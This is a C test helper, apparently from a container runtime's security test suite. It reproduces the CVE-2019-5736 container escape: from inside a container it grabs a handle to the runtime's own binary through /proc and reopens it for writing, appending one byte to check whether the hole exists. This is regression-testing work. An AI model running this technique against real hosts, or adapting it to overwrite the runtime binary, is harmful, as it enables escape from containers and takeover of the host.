/* exe-grab: the CVE-2019-5736 attack on a runtime's binary, from inside a
 * container, for cve.bats.  Waits for a process of the pid namespace whose
 * exe is not our own (a runtime process entering the container: an init at
 * its start barrier, an exec'd process before its execve), takes an O_PATH
 * handle to that exe, waits until the process has exec'd or gone (so the
 * runtime no longer runs the binary and ETXTBSY does not hide the hole),
 * then reopens the handle for writing and appends one byte.  Prints one
 * line to stdout: "written" (the hole) or "open errno N" / "write errno N",
 * after "grabbed PID" once it holds a handle; `ready` is created when it
 * starts looking.
 *
 *   exe-grab DIR      (files go to DIR: ready, grabbed, result)
 *
 * Built static by cve.bats into the rootfs. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void
put (const char *dir, const char *name, const char *text)
{
  char path[512];
  FILE *f;

  snprintf (path, sizeof path, "%s/%s", dir, name);
  f = fopen (path, "w");
  if (f)
    fprintf (f, "%s\n", text), fclose (f);
}

static bool
same_file (const struct stat *a, const struct stat *b)
{
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* a pid whose exe differs from ours and from the container's busybox (a
 * process caught after its execve runs that, and writing the container's
 * own file proves nothing), or 0 */
static pid_t
find_other (const struct stat *self, const struct stat *busybox)
{
  DIR *d = opendir ("/proc");
  struct dirent *e;
  pid_t found = 0;

  while (d && (e = readdir (d)) && !found)
    {
      char path[300];
      struct stat st;
      pid_t pid = atoi (e->d_name);
      if (pid <= 0 || pid == getpid ())
        continue;
      snprintf (path, sizeof path, "/proc/%d/exe", pid);
      if (stat (path, &st) == 0 && !same_file (&st, self) && !same_file (&st, busybox))
        found = pid;
    }
  if (d)
    closedir (d);
  return found;
}

int
main (int argc, char **argv)
{
  struct stat self, busybox = { 0 }, held, now;
  char path[300], line[64];
  pid_t pid = 0;
  int fd = -1, w;

  if (argc < 2 || stat ("/proc/self/exe", &self) < 0)
    return 2;
  stat ("/bin/busybox", &busybox);
  put (argv[1], "ready", "1");
  while (fd < 0)
    {
      if ((pid = find_other (&self, &busybox)) == 0)
        {
          sched_yield ();
          continue;
        }
      snprintf (path, sizeof path, "/proc/%d/exe", pid);
      fd = open (path, O_PATH | O_CLOEXEC);
    }
  fstat (fd, &held);
  snprintf (line, sizeof line, "grabbed %d", pid);
  put (argv[1], "grabbed", line);
  /* until the process runs something else or is gone */
  while (stat (path, &now) == 0 && now.st_dev == held.st_dev && now.st_ino == held.st_ino)
    usleep (1000);
  /* the runtime's other processes (create's, exec's parent) leave too */
  for (int tries = 0; tries < 500; tries++)
    {
      snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
      w = open (path, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w >= 0 || errno != ETXTBSY)
        break;
      usleep (10000);
    }
  if (w < 0)
    snprintf (line, sizeof line, "open errno %d", errno);
  else if (write (w, "", 1) != 1)
    snprintf (line, sizeof line, "write errno %d", errno);
  else
    snprintf (line, sizeof line, "written");
  put (argv[1], "result", line);
  puts (line);
  return 0;
}
